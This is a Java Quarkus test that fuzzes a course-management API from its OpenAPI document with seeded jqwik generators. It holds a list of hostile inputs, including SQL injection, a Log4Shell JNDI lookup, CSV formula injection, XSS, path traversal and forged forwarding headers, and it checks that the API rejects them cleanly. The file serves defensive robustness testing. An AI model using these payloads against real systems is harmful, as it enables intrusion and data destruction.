package dev.syllabus.http;

import static dev.syllabus.support.Api.COURSE;
import static dev.syllabus.support.Api.as;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.syllabus.support.Api;
import dev.syllabus.support.Contract;
import dev.syllabus.support.RawHttp;
import dev.syllabus.support.UnderAttackProfile;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import jakarta.inject.Inject;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.SortedMap;
import java.util.TreeMap;
import javax.sql.DataSource;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Tuple;
import net.jqwik.api.sessions.JqwikSession;
import org.junit.jupiter.api.Test;

/**
 * A hostile-input generator driven by the API's own OpenAPI document: every operation, as every
 * kind of caller, with generated path, query, header and body values, valid and not (jqwik's
 * generators, seeded so a run can be replayed). The oracle, for every answer: it comes within 2 s;
 * it is never a 5xx; every 4xx is an {@code application/problem+json} whose {@code status} is the
 * answer's; every answer is one the committed document allows (status, media type, body schema);
 * and a refused write stored nothing. {@code -Dfuzz.requests=N} sets how many (2,000 here, 20,000 with {@code make fuzz}),
 * {@code -Dfuzz.seed=S} replays a run.
 */
@QuarkusTest
@TestProfile(UnderAttackProfile.class)
class HostileInputTest {

    private static final int REQUESTS = Integer.getInteger("fuzz.requests", 2_000);
    private static final long SEED = Long.getLong("fuzz.seed", new SecureRandom().nextLong());
    private static final Duration PATIENCE = Duration.ofSeconds(2);
    private static final ObjectMapper JSON = new ObjectMapper();

    /** Values that have broken parsers somewhere: numbers at their limits, injection, encodings, control characters. */
    private static final List<String> NASTY = List.of(
            "",
            " ",
            "0",
            "-1",
            "1.5",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "99999999999999999999999",
            "1e309",
            "NaN",
            "null",
            "true",
            "[]",
            "{}",
            "H0",
            "H99",
            "PR0",
            "setup",
            "../../etc/passwd",
            "..%2F..%2F",
            "%00",
            "%zz",
            "%",
            "\u0000",
            "\u202e\u0644",
            "\uD83D\uDE00",
            "\uFEFF",
            "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "@SUM(1+1)",
            "<script>alert(1)</script>",
            "' OR '1'='1' --",
            "\"; DROP TABLE account; --",
            "${jndi:ldap://x/a}",
            "{{7*7}}",
            "a".repeat(40),
            "b".repeat(1_000),
            "c".repeat(9_000),
            "ML-IN-PRODUCTION",
            "ml-in-production ",
            "H3/PR1",
            "\t\r\n",
            "\\",
            "'",
            "\"",
            "*",
            "?",
            "#",
            "//",
            "/",
            "😀😀😀");

    @Inject
    DataSource database;

    private final List<String> failures = new ArrayList<>();
    private final SortedMap<Integer, Integer> statuses = new TreeMap<>();
    private int fivexx;
    private int hangs;
    private int nonProblems;
    private int contractViolations;
    private int storedRefusals;

    @Test
    void noInputGetsA5xxAHangAnUndocumentedAnswerOrStoresARefusal() throws Exception {
        System.out.printf("hostile input: seed %d (replay: make fuzz SEED=%d)%n", SEED, SEED);
        JqwikSession.start(String.valueOf(SEED));
        try {
            run();
        } finally {
            JqwikSession.finish();
        }
        System.out.printf(
                "hostile input: %d requests, %d 5xx, %d hangs, %d non-problem 4xx, %d contract violations,"
                        + " %d stored refusals (seed %d)%n",
                REQUESTS, fivexx, hangs, nonProblems, contractViolations, storedRefusals, SEED);
        System.out.println("hostile input: answers by status " + statuses);
        assertThat(failures)
                .as("failures with seed " + SEED + " (replay: make fuzz SEED=" + SEED + ")")
                .isEmpty();
    }

    private void run() throws Exception {
        JsonNode document = Contract.committed().document();
        Callers callers = Callers.create();
        List<Operation> operations = Operation.all(document, callers);
        Arbitrary<Call> calls =
                Arbitraries.oneOf(operations.stream().map(o -> o.calls(callers)).toList());
        RandomGenerator<Call> generator = calls.generatorWithEmbeddedEdgeCases(1_000);
        Random random = new Random(SEED);
        RawHttp http = new RawHttp(RestAssured.port, PATIENCE);

        for (int i = 0; i < REQUESTS; i++) {
            Call call = generator.next(random).value();
            boolean write = !call.method().equals("GET");
            String before = write ? snapshot() : null;
            RawHttp.Answer answer = http.send(call.method(), call.target(), call.headers(), call.body());
            statuses.merge(answer.status(), 1, Integer::sum);
            check(i, call, answer);
            if (write && answer.status() >= 400 && answer.status() < 500 && !before.equals(snapshot())) {
                fail(i, call, answer, "a refused write changed the database");
                storedRefusals++;
            }
        }
    }

    private void check(int index, Call call, RawHttp.Answer answer) throws Exception {
        if (!answer.answered()) {
            hangs++;
            fail(index, call, answer, "no answer within " + PATIENCE.toMillis() + " ms");
            return;
        }
        int status = answer.status();
        String type = answer.header("content-type");
        if (status >= 500) {
            fivexx++;
            fail(index, call, answer, "server error");
        } else if (status >= 400) {
            JsonNode problem =
                    type != null && type.startsWith(Problem.MEDIA_TYPE) ? JSON.readTree(answer.body()) : null;
            if (problem == null || problem.path("status").asInt() != status || !problem.hasNonNull("title")) {
                nonProblems++;
                fail(index, call, answer, "a 4xx that is not an RFC 9457 problem with its status");
            }
        }
        List<String> violations = Contract.committed()
                .violations(call.method(), call.target().split("\\?", 2)[0], status, type, answer.text());
        if (!violations.isEmpty()) {
            contractViolations++;
            fail(index, call, answer, String.join("; ", violations));
        }
    }

    private void fail(int index, Call call, RawHttp.Answer answer, String what) {
        if (failures.size() < 25) {
            String body = answer.text();
            failures.add("#" + index + " " + what + ": " + call.role() + " " + call.method() + " "
                    + abbreviate(call.target())
                    + " " + abbreviate(String.valueOf(call.headers())) + " body "
                    + abbreviate(call.body() == null ? "-" : new String(call.body(), StandardCharsets.UTF_8))
                    + " -> " + answer.status() + " " + abbreviate(body));
        }
    }

    /** What a refused request must not change: the rows of every table a request can write. */
    private String snapshot() throws Exception {
        try (Connection connection = database.getConnection();
                Statement statement = connection.createStatement();
                ResultSet rows = statement.executeQuery("select (select count(*) from account),"
                        + " (select count(*) from access_token), (select count(*) from access_token where revoked_at is not null),"
                        + " (select count(*) from enrollment), (select count(*) from progress), (select coalesce(sum(version), 0) from progress),"
                        + " (select count(*) from progress_event), (select count(*) from review), (select count(*) from github_repository),"
                        + " (select count(*) from pull_request), (select count(*) from github_delivery),"
                        + " (select count(*) from course), (select count(*) from homework)")) {
            rows.next();
            StringBuilder state = new StringBuilder();
            for (int column = 1; column <= 13; column++) {
                state.append(rows.getLong(column)).append(',');
            }
            try (ResultSet courses =
                    statement.executeQuery("select slug, version, join_code from course order by slug")) {
                while (courses.next()) {
                    state.append(courses.getString(1))
                            .append('@')
                            .append(courses.getString(2))
                            .append('#')
                            .append(courses.getString(3));
                }
            }
            return state.toString();
        }
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…(" + text.length() + ")" : text;
    }

    /** One generated request: which documented operation, as whom, and the bytes. */
    record Call(
            String operationId,
            String path,
            String role,
            String method,
            String target,
            List<Map.Entry<String, String>> headers,
            byte[] body) {}

    /** The kinds of caller, each with a token (the anonymous one without). */
    record Callers(Map<String, String> tokens, String otherStudent, String tokenId) {

        static Callers create() {
            String studentA = Api.uniqueLogin("hostile-a");
            String studentB = Api.uniqueLogin("hostile-b");
            String tokenA = Api.student(studentA);
            String tokenB = Api.student(studentB);
            String admin = Api.admin();
            var created = as(admin)
                    .contentType(ContentType.JSON)
                    .body(Map.of("label", "hostile"))
                    .post("/api/auth/tokens")
                    .then()
                    .statusCode(201)
                    .extract();
            as(tokenA)
                    .contentType(ContentType.JSON)
                    .body(Map.of())
                    .put("/api/courses/" + COURSE + "/checklist/H2/PR1/done")
                    .then()
                    .statusCode(200);
            return new Callers(
                    Map.of(
                            "student",
                            tokenA,
                            "other-student",
                            tokenB,
                            "instructor",
                            admin,
                            "integration",
                            created.path("token")),
                    studentB,
                    String.valueOf((Object) created.path("id")));
        }

        Arbitrary<String> names() {
            return Arbitraries.of("anonymous", "student", "other-student", "instructor", "integration");
        }
    }

    /** A documented operation and how to generate calls of it. */
    record Operation(
            String id, String method, String path, List<JsonNode> parameters, JsonNode body, JsonNode components) {

        static List<Operation> all(JsonNode document, Callers callers) {
            List<Operation> operations = new ArrayList<>();
            for (Iterator<Map.Entry<String, JsonNode>> paths =
                            document.get("paths").fields();
                    paths.hasNext(); ) {
                var path = paths.next();
                for (Iterator<Map.Entry<String, JsonNode>> ops = path.getValue().fields(); ops.hasNext(); ) {
                    var op = ops.next();
                    List<JsonNode> parameters = new ArrayList<>();
                    op.getValue()
                            .path("parameters")
                            .forEach(parameter ->
                                    parameters.add(Contract.committed().resolved(parameter)));
                    operations.add(new Operation(
                            op.getValue().path("operationId").asText(),
                            op.getKey().toUpperCase(),
                            path.getKey(),
                            parameters,
                            op.getValue().path("requestBody"),
                            document.get("components")));
                }
            }
            return operations;
        }

        Arbitrary<Call> calls(Callers callers) {
            Arbitrary<String> role = id.equals("logout") ? Arbitraries.just("anonymous") : callers.names();
            return Combinators.combine(role, target(callers), extraHeaders(), bodies())
                    .as((who, target, headers, payload) -> {
                        List<Map.Entry<String, String>> all = new ArrayList<>(headers);
                        String token = callers.tokens().get(who);
                        if (token != null
                                && all.stream().noneMatch(h -> h.getKey().equals("Authorization"))) {
                            all.add(Map.entry("Authorization", "Bearer " + token));
                        }
                        if (payload != null) {
                            all.add(Map.entry("Content-Type", payload.getKey()));
                        }
                        return new Call(
                                id, path, who, method, target, all, payload == null ? null : payload.getValue());
                    });
        }

        /** The request target: path parameters (valid or not, always percent-encoded) and query parameters. */
        private Arbitrary<String> target(Callers callers) {
            List<Arbitrary<String>> pieces = new ArrayList<>();
            List<String> names = new ArrayList<>();
            for (JsonNode parameter : parameters) {
                String in = parameter.path("in").asText();
                if (in.equals("path") || in.equals("query")) {
                    names.add(in + ":" + parameter.path("name").asText());
                    Arbitrary<String> value = Arbitraries.frequencyOf(
                            Tuple.of(
                                    3,
                                    Arbitraries.just(
                                            validValue(parameter.path("name").asText(), callers))),
                            Tuple.of(2, hostile()));
                    pieces.add(
                            in.equals("query")
                                    ? Arbitraries.frequencyOf(
                                            Tuple.of(1, Arbitraries.just((String) null)), Tuple.of(2, value))
                                    : value);
                }
            }
            Arbitrary<List<String>> values = pieces.isEmpty()
                    ? Arbitraries.just(List.of())
                    : Combinators.combine(pieces).as(ArrayList::new);
            Arbitrary<String> junkQuery = Arbitraries.frequencyOf(
                    Tuple.of(5, Arbitraries.just("")),
                    Tuple.of(1, hostile().map(v -> "&" + encode(v) + "=" + encode(v))));
            return Combinators.combine(values, junkQuery).as((chosen, junk) -> {
                String target = path;
                StringBuilder query = new StringBuilder();
                for (int i = 0; i < names.size(); i++) {
                    String[] name = names.get(i).split(":", 2);
                    if (name[0].equals("path")) {
                        target = target.replace("{" + name[1] + "}", encode(chosen.get(i)));
                    } else if (chosen.get(i) != null) {
                        query.append('&').append(name[1]).append('=').append(encode(chosen.get(i)));
                    }
                }
                query.append(junk);
                return query.isEmpty() ? target : target + "?" + query.substring(1);
            });
        }

        private String validValue(String name, Callers callers) {
            return switch (name) {
                case "slug" -> COURSE;
                case "code" -> "H3";
                case "group" -> "H3";
                case "item" -> "PR1";
                case "number" -> path.contains("pull-requests") ? "1" : "3";
                case "login", "student" -> callers.otherStudent();
                case "id" -> callers.tokenId();
                case "page" -> "1";
                case "size" -> "10";
                case "week" -> "2";
                case "status" -> "IN_PROGRESS";
                case "format" -> "canvas";
                default -> "1";
            };
        }

        /** Headers a client might get wrong or an attacker might try, a few at a time. */
        private Arbitrary<List<Map.Entry<String, String>>> extraHeaders() {
            Arbitrary<Map.Entry<String, String>> header = Arbitraries.oneOf(
                    headerValues(
                            "X-Forwarded-For",
                            Arbitraries.of(
                                    "",
                                    ",",
                                    ",,",
                                    "foo",
                                    "1.2.3.4",
                                    "1.2.3.4, 10.0.0.1",
                                    "::1",
                                    "[::1]:80",
                                    "999.1.1.1",
                                    "unknown",
                                    "1.2.3.4 5.6.7.8",
                                    "x".repeat(300))),
                    headerValues(
                            "Forwarded",
                            Arbitraries.of(
                                    "",
                                    "for=",
                                    "for=\"[::1]\"",
                                    "for=1.2.3.4;proto=https",
                                    "by=;for=;host=",
                                    "for=_hidden, for=unknown")),
                    headerValues("X-Forwarded-Host", Arbitraries.of("", "evil.example", "a b", "x".repeat(300))),
                    headerValues("X-Forwarded-Proto", Arbitraries.of("", "https", "gopher", "HTTPS, http")),
                    headerValues(
                            "If-Match",
                            Arbitraries.of(
                                    "",
                                    "*",
                                    "\"v0\"",
                                    "\"v1\"",
                                    "W/\"v1\"",
                                    "\"v99999999999\"",
                                    "v1",
                                    "\"",
                                    "\"v1\", \"v2\"")),
                    headerValues("If-None-Match", Arbitraries.of("", "*", "\"x\"", "W/\"x\"", "\"", "garbage")),
                    headerValues(
                            "Accept",
                            Arbitraries.of(
                                    "",
                                    "*/*",
                                    "application/json",
                                    "text/markdown",
                                    "text/csv",
                                    "text/html",
                                    "application/xml",
                                    "image/png",
                                    "application/json;q=0",
                                    "*/*;q=abc",
                                    ";;;",
                                    "application/problem+json")),
                    headerValues("Accept-Encoding", Arbitraries.of("gzip", "identity", "br", "*;q=0", "")),
                    headerValues(
                            "Authorization",
                            Arbitraries.of(
                                    "",
                                    "Bearer",
                                    "Bearer ",
                                    "Bearer x",
                                    "Basic YWRtaW46YWRtaW4=",
                                    "bearer " + "t".repeat(500),
                                    "Bearer \u00ff\u00fe",
                                    "Token abc")),
                    headerValues("X-GitHub-Event", Arbitraries.of("", "ping", "pull_request", "push", "x".repeat(100))),
                    headerValues(
                            "X-Hub-Signature-256",
                            Arbitraries.of("", "sha256=", "sha256=00", "sha1=abc", "sha256=" + "0".repeat(64))),
                    headerValues("X-GitHub-Delivery", Arbitraries.of("", "1", "x".repeat(200))),
                    headerValues("X-Anything", hostile().map(HostileInputTest::headerSafe)));
            return header.list().ofMaxSize(3);
        }

        private static Arbitrary<Map.Entry<String, String>> headerValues(String name, Arbitrary<String> values) {
            return values.map(value -> Map.entry(name, value));
        }

        /** A body with its media type, or none: as documented, mutated, or garbage. */
        private Arbitrary<Map.Entry<String, byte[]>> bodies() {
            JsonNode content = body.path("content");
            Arbitrary<String> mediaType = Arbitraries.frequencyOf(
                    Tuple.of(
                            6,
                            content.isMissingNode() || !content.fieldNames().hasNext()
                                    ? Arbitraries.just("application/json")
                                    : Arbitraries.of(iterable(content.fieldNames()))),
                    Tuple.of(
                            1,
                            Arbitraries.of(
                                    "text/plain",
                                    "application/x-www-form-urlencoded",
                                    "application/json; charset=utf-16",
                                    "application/xml",
                                    "",
                                    "*/*",
                                    "multipart/form-data; boundary=x",
                                    "application/json;;;")));
            JsonNode schema = content.path("application/json").path("schema");
            List<Tuple.Tuple2<Integer, Arbitrary<String>>> texts = new ArrayList<>();
            if (!schema.isMissingNode()) {
                texts.add(Tuple.of(6, Arbitraries.lazy(() -> json(schema, 0)).map(HostileInputTest::write)));
            }
            texts.add(Tuple.of(
                    1,
                    Arbitraries.of(
                            "",
                            "{",
                            "{\"a\":",
                            "[1,2",
                            "null",
                            "0",
                            "\"text\"",
                            "[]",
                            "{}",
                            "{\"a\":1}{\"b\":2}",
                            "[".repeat(5_000) + "]".repeat(5_000),
                            "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000),
                            "{\"login\":\"x\",\"login\":\"y\"}",
                            "\u0000\u0001\u0002",
                            "login,name,email\n",
                            "# Week 1: X\n- a\n",
                            "login,name,email\n=cmd|' /C calc'!A0,x,y\n",
                            "\uFEFF{}")));
            texts.add(Tuple.of(1, hostile()));
            Arbitrary<String> text = Arbitraries.frequencyOf(texts);
            Arbitrary<Map.Entry<String, byte[]>> present = Combinators.combine(mediaType, text)
                    .as((type, value) -> Map.entry(type, value.getBytes(StandardCharsets.UTF_8)));
            boolean expected = !body.isMissingNode();
            return Arbitraries.frequencyOf(
                    Tuple.of(expected ? 1 : 8, Arbitraries.just((Map.Entry<String, byte[]>) null)),
                    Tuple.of(expected ? 8 : 1, present));
        }

        /** A JSON value for a schema: mostly what it documents, sometimes something else. */
        private Arbitrary<JsonNode> json(JsonNode schema, int depth) {
            if (schema.has("$ref")) {
                return json(components.at(schema.get("$ref").asText().substring("#/components".length())), depth);
            }
            Arbitrary<JsonNode> documented = documented(schema, depth);
            return Arbitraries.frequencyOf(Tuple.of(8, documented), Tuple.of(depth == 0 ? 1 : 2, wrong()));
        }

        private Arbitrary<JsonNode> documented(JsonNode schema, int depth) {
            if (schema.has("anyOf")) {
                List<Arbitrary<JsonNode>> options = new ArrayList<>();
                schema.get("anyOf").forEach(option -> options.add(json(option, depth + 1)));
                return Arbitraries.oneOf(options);
            }
            if (schema.has("enum")) {
                return Arbitraries.of(iterable(schema.get("enum").elements()));
            }
            if (schema.has("examples") && schema.get("examples").size() > 0) {
                return Arbitraries.of(iterable(schema.get("examples").elements()));
            }
            String type = schema.path("type").isArray()
                    ? schema.path("type").get(0).asText()
                    : schema.path("type").asText("string");
            return switch (type) {
                case "object" -> object(schema, depth);
                case "array" ->
                    depth > 4
                            ? Arbitraries.just(JSON.createArrayNode())
                            : json(schema.path("items"), depth + 1)
                                    .list()
                                    .ofMaxSize(3)
                                    .map(items -> {
                                        var array = JSON.createArrayNode();
                                        items.forEach(array::add);
                                        return array;
                                    });
                case "integer" ->
                    Arbitraries.integers()
                            .map(n -> (JsonNode) JSON.getNodeFactory().numberNode(n));
                case "number" ->
                    Arbitraries.doubles()
                            .map(n -> (JsonNode) JSON.getNodeFactory().numberNode(n));
                case "boolean" ->
                    Arbitraries.of(true, false)
                            .map(b -> (JsonNode) JSON.getNodeFactory().booleanNode(b));
                case "null" -> Arbitraries.just(JSON.nullNode());
                default ->
                    Arbitraries.strings().ofMaxLength(20).map(s ->
                            (JsonNode) JSON.getNodeFactory().textNode(s));
            };
        }

        private Arbitrary<JsonNode> object(JsonNode schema, int depth) {
            List<String> names = new ArrayList<>();
            List<Arbitrary<JsonNode>> values = new ArrayList<>();
            schema.path("properties").fields().forEachRemaining(property -> {
                names.add(property.getKey());
                values.add(Arbitraries.frequencyOf(
                        Tuple.of(6, json(property.getValue(), depth + 1)),
                        Tuple.of(1, Arbitraries.just((JsonNode) null))));
            });
            Arbitrary<List<JsonNode>> chosen = values.isEmpty()
                    ? Arbitraries.just(List.of())
                    : Combinators.combine(values).as(ArrayList::new);
            Arbitrary<String> unknown = Arbitraries.frequencyOf(
                    Tuple.of(9, Arbitraries.just((String) null)),
                    Tuple.of(1, Arbitraries.of("unknown", "__proto__", "role", "login", "id")));
            return Combinators.combine(chosen, unknown).as((list, extra) -> {
                ObjectNode object = JSON.createObjectNode();
                for (int i = 0; i < names.size(); i++) {
                    if (list.get(i) != null) {
                        object.set(names.get(i), list.get(i));
                    }
                }
                if (extra != null) {
                    object.put(extra, "INSTRUCTOR");
                }
                return object;
            });
        }

        private static Arbitrary<JsonNode> wrong() {
            return Arbitraries.oneOf(
                    hostile().map(s -> (JsonNode) JSON.getNodeFactory().textNode(s)),
                    Arbitraries.longs()
                            .map(n -> (JsonNode) JSON.getNodeFactory().numberNode(n)),
                    Arbitraries.just(JSON.getNodeFactory().numberNode(new BigDecimal("1e400"))),
                    Arbitraries.just(JSON.getNodeFactory().numberNode(new BigInteger("9".repeat(40)))),
                    Arbitraries.of(
                            JSON.nullNode(),
                            JSON.getNodeFactory().booleanNode(true),
                            JSON.createArrayNode(),
                            JSON.createObjectNode()));
        }
    }

    static Arbitrary<String> hostile() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, Arbitraries.of(NASTY)),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(30)),
                Tuple.of(
                        1,
                        Arbitraries.strings()
                                .withCharRange(' ', '~')
                                .ofMinLength(200)
                                .ofMaxLength(3_000)),
                Tuple.of(1, Arbitraries.integers().map(String::valueOf)),
                Tuple.of(1, Arbitraries.longs().map(String::valueOf)));
    }

    /**
     * What may stand in a header value by HTTP's grammar (RFC 9110: visible characters, space, tab,
     * Latin-1 obs-text). Anything else is a malformed message, which the HTTP server refuses
     * before the application sees it; that is not input to the API.
     */
    static String headerSafe(String value) {
        StringBuilder safe = new StringBuilder();
        value.chars().forEach(c -> safe.append((c < 0x20 && c != '\t') || c == 0x7F || c > 0xFF ? '?' : (char) c));
        return safe.toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static <T> List<T> iterable(Iterator<T> iterator) {
        List<T> all = new ArrayList<>();
        iterator.forEachRemaining(all::add);
        return all;
    }
}
